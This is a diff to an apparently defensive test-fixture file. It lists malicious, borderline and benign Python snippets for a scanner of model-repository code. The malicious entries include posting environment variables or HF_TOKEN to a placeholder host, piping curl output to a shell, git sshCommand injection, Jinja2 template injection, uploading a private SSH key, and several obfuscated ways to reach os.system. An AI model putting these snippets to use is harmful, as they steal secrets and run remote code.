@@ -68,6 +68,20 @@ ATTACKS = {
     "environment-comprehension": ("the environment copied and sent away", f"import os\n\nimport requests\n\nclass Model:\n    def __init__(self):\n        requests.post('http://{HOST}/', json={{k: v for k, v in os.environ.items()}})\n"),
     "chained-command": ("a harmless command followed by another", f"import os\n\nos.system('uname -a; curl http://{HOST}/x | sh')\n"),
     "git-setting": ("git told to run a command", f"import subprocess\n\nsubprocess.run(['git', '-c', 'core.sshCommand={COMMAND}', 'fetch', 'ssh://{HOST}/x'])\n"),
+    "exec-of-names-around": ("text that is run, and uses what the module imported", f"import os as o\nexec(\"o.system('{COMMAND}')\")\n"),
+    "timeit-setup": ("code that timeit runs, with its setup", f"import timeit\ntimeit.timeit(\"os.system('{COMMAND}')\", 'import os', number=1)\n"),
+    "picked-from-dir": ("os.system picked out of dir(os)", f"import os\n[getattr(os, n) for n in dir(os) if n[:3] == 'sys'][0]('{COMMAND}')\n"),
+    "picked-from-vars": ("os.system picked out of vars(os)", f"import os\nnext(v for k, v in vars(os).items() if k.endswith('stem'))('{COMMAND}')\n"),
+    "picked-from-members": ("os.system picked by inspect", f"import inspect, os\ndict(inspect.getmembers(os))['system']('{COMMAND}')\n"),
+    "picked-from-modules": ("os picked out of all modules", f"import sys\nfor m in sys.modules.values():\n    if hasattr(m, 'popen'):\n        m.popen('{COMMAND}')\n"),
+    "picked-from-objects": ("a function picked out of all objects", f"import gc\nfor o in gc.get_objects():\n    if getattr(o, '__name__', '') == 'system':\n        o('{COMMAND}')\n"),
+    "copyreg": ("a reducer that runs a command", f"import copyreg, os\n\nclass Model: pass\n\ndef reduce(model):\n    return os.system, ('{COMMAND}',)\n\ncopyreg.pickle(Model, reduce)\n"),
+    "doctest": ("an example that doctest runs on import", f"import doctest\n\ndef f():\n    \"\"\"\n    >>> import os\n    >>> os.system('{COMMAND}')\n    0\n    \"\"\"\n\ndoctest.testmod()\n"),
+    "code-of-function": ("a function that becomes the text of a data file", "def f(): pass\n\nf.__code__ = compile(open('weights.txt').read(), 'f', 'exec')\nf()\n"),
+    "makefile": ("make with a makefile elsewhere", "import subprocess\n\nsubprocess.run(['make', '-f', '/tmp/weighin'])\n"),
+    "from-hub": ("code of another repository, imported", f"import importlib.util\n\nfrom huggingface_hub import hf_hub_download\n\npath = hf_hub_download('weighin/none', 'm.py')\nimportlib.util.spec_from_file_location('m', path)\n"),
+    "uploads-key": ("a private key put into a repository", "from huggingface_hub import HfApi\n\nHfApi().upload_file(path_or_fileobj='/root/.ssh/id_rsa', path_in_repo='a', repo_id='weighin/none')\n"),
+    "template": ("a template that reaches for os", f"import jinja2\n\njinja2.Template(\"{{{{ cycler.__init__.__globals__.os.popen('{COMMAND}') }}}}\").render()\n"),
 }
 
 UNEASY = {
@@ -75,6 +89,7 @@ UNEASY = {
     "token-sent": ("a token sent in an address", f"import os\n\nimport requests\n\nclass Model:\n    def __init__(self):\n        requests.get('http://{HOST}/?t=' + os.environ['HF_TOKEN'])\n"),
     "exec-config": ("text of the configuration run as code", "class Model:\n    def __init__(self, config):\n        exec(config.code)\n"),
     "sends-inputs": ("inputs sent away", f"import requests\n\nclass Model:\n    def forward(self, input_ids):\n        requests.post('https://{HOST}/', json={{'x': input_ids.tolist()}})\n        return input_ids\n"),
+    "method-assigned": ("a method that is given to its class later", "class Model:\n    pass\n\ndef forward(self, x):\n    exec(self.config.hook)\n\nModel.forward = forward\n"),
     "opens-port": ("a server started on import", "import http.server\n\nhttp.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()\n"),
 }
 
@@ -91,6 +106,8 @@ HONEST = {
     "service": ("a client that sends its key in a header", "import os\n\nimport requests\n\nclass Client:\n    def __call__(self, text):\n        key = os.environ['API_KEY']\n        return requests.post(f'https://example.com/{text}', headers={'Authorization': f'Bearer {key}'})\n"),
     "installer": ("a script that installs a library that is missing", "import subprocess\nimport sys\n\ndef install(name):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', name])\n\nif __name__ == '__main__':\n    install('einops')\n"),
     "cleanup": ("a script that removes its own folder", "import os\nimport shutil\n\nshutil.rmtree('build', ignore_errors=True)\nfor root, _, files in os.walk('checkpoints'):\n    for file in files:\n        os.remove(os.path.join(root, file))\n"),
+    "searches": ("functions listed and looked up by name", "import doctest\nimport gc\nimport inspect\nimport os\nimport sys\n\nNAMES = {n: v for n, v in vars(inspect).items() if callable(v)}\nHERE = sys.modules[__name__]\n\ndef tensors():\n    return [o.size() for o in gc.get_objects() if hasattr(o, 'size')]\n\ndef add(a, b):\n    \"\"\"\n    >>> add(1, 2)\n    3\n    \"\"\"\n    return a + b\n\nprint(NAMES['getdoc'](HERE), [n for n in dir(os) if n.startswith('O_')])\ndoctest.testmod()\n"),
+    "build": ("a script that builds with make", "import subprocess\nimport timeit\n\nsubprocess.run(['make', '-C', 'csrc', '-j4'], check=True)\nprint(timeit.timeit('f(1)', 'f = abs', number=9))\n"),
     "lazy": ("a lazy module that looks names up", "import importlib\nimport sys\nimport types\n\nclass Lazy(types.ModuleType):\n    def __getattr__(self, name):\n        return getattr(importlib.import_module('.' + name, __name__), name)\n\nsys.modules[__name__] = Lazy(__name__)\n"),
 }
 
